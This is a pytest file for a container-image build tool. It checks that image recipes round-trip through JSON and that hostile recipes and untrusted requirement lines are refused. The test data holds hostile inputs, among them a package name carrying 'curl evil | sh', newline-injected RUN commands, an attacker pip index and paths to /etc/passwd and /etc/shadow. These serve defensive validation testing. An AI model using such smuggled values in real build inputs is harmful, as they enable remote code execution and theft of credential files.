"""An Image travels in the deploy manifest as data, and comes back equal, or refused with the bad step named."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from chutes.image import Image
from chutes_build.dockerfile import render_dockerfile
from chutes_build.errors import BuildError
from chutes_build.plan import plan_image
from chutes_build.recipe import RecipeError, image_from_data, image_to_data
from tests.build.test_dockerfile import PROGRAMS, SPEC, WHEEL


@pytest.mark.parametrize("name", sorted(PROGRAMS))
def test_image_survives_the_trip_through_json(name: str) -> None:
    image = PROGRAMS[name]()
    back = image_from_data(json.loads(json.dumps(image_to_data(image))))
    assert back == image
    assert render_dockerfile(SPEC, back, runtime_wheel=WHEEL) == render_dockerfile(SPEC, image, runtime_wheel=WHEEL)


def recipe(*steps: dict) -> dict:
    return {"username": "myuser", "name": "demo", "tag": "1.0", "base_image": None, "steps": list(steps)}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("FROM evil", "must be a JSON object"),
        ({**recipe(), "tag": "1.0\nRUN id"}, "not a valid image tag"),
        ({**recipe(), "base_image": "Bad Ref"}, "not an image reference"),
        ({**recipe(), "steps": "apt"}, "must be a list"),
        (recipe({"apt": ["git"]}, {"apt": ["git; curl evil | sh"]}), "image step 2: Image.apt_install()"),
        (recipe({"env": ["K", "line\nRUN id"]}), "spans lines"),
        (recipe({"env": "K=V"}), "wrong shape"),
        (recipe({"pip": ["--index-url=http://evil/"]}), "not a requirement specifier"),
        (recipe({"pip_requirements": "../../etc/passwd.txt"}), "inside the build context"),
        (recipe({"add": ["/etc/shadow", "/x"]}), "inside the build context"),
        (recipe({"label": ["ai.chutes.slug", "other"]}), "set by chutes build"),
        (recipe({"curl": "x"}), "image step 1: unknown image step 'curl'"),
        (recipe({"apt": ["git"], "run": "id"}), "one key"),
    ],
)
def test_hostile_recipe_is_refused_naming_the_step(data: object, message: str) -> None:
    with pytest.raises(RecipeError) as caught:
        image_from_data(data)
    assert message in str(caught.value)


@pytest.mark.parametrize(
    "line",
    ["--extra-index-url http://127.0.0.1:9/simple", "-e git+https://example.invalid/x.git", "pkg @ file:///etc"],
)
def test_untrusted_plan_refuses_requirements_that_are_not_plain_names(tmp_path: Path, line: str) -> None:
    (tmp_path / "app.py").write_text("x = 1\n")
    (tmp_path / "requirements.txt").write_text(f"numpy\n{line}\n")
    image = Image("myuser", "demo", "1.0").pip_install("requirements.txt")
    with pytest.raises(BuildError, match="not a plain specifier"):
        plan_image(SPEC, image, tmp_path, tag="t:1", fetch_wheels=False, untrusted=True)
    # the developer's own `chutes build` still passes such lines to pip as before
    plan = plan_image(SPEC, image, tmp_path, tag="t:1", fetch_wheels=False)
    assert plan.context.generated[".chutes/wheels/pip-1/requirements.txt"].decode().endswith(line + "\n")


def test_a_host_builds_the_sdk_packages_a_tenants_chute_imports_into_its_image(tmp_path: Path) -> None:
    """A chute file written for the platform's SDK imports loguru at module level: the image a host builds
    for it (untrusted) gets it as chutes build does, pinned to the version installed here."""
    import loguru

    (tmp_path / "app.py").write_text(
        "from loguru import logger\nimport os, pybase64\nTEXT = 'import requests'\n"
        "def f():\n    import backoff  # inside a function counts too\n"
    )
    image = Image("myuser", "demo", "1.0")
    plan = plan_image(SPEC, image, tmp_path, tag="t:1", fetch_wheels=False, untrusted=True)
    wanted = plan.context.generated[".chutes/wheels/sdk/requirements.txt"].decode().splitlines()
    names = {line.partition("==")[0].lower() for line in wanted}
    assert {"loguru", "pybase64", "backoff"} <= names and "requests" not in names
    assert f"loguru=={loguru.__version__}" in wanted
    assert ".chutes/wheels/sdk" in plan.dockerfile
